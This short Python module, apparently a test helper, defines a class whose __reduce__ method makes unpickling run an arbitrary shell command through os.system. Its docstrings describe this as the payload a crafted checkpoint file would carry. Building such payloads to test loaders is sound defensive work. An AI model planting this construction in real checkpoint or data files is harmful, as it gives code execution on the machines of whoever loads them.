"""A pickle payload as a crafted checkpoint file carries one: unpickling it runs a shell command."""

from __future__ import annotations

import os


class RunsOnUnpickle:
    """Pickles as a call of os.system: a reader that unpickles with a plain Unpickler runs it."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self):
        return (os.system, (self.command,))
